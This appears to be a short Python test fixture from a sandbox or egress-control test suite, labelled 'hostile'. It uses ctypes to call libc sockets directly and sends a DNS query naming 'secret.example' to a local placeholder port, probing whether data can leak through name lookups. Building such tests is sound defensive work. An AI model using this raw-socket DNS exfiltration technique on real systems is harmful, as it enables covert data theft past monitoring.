# hostile: carry data out in a query for a name
# expect: no_output
# canary: silent
# bare: escapes
import ctypes
import struct

libc = ctypes.CDLL(None)
query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1"
address = struct.pack("=H", 2) + struct.pack("!H", int("@UDP@")) + bytes([127, 0, 0, 1]) + bytes(8)
fd = libc.socket(2, 2, 0)
libc.sendto(fd, query, len(query), 0, address, len(address))
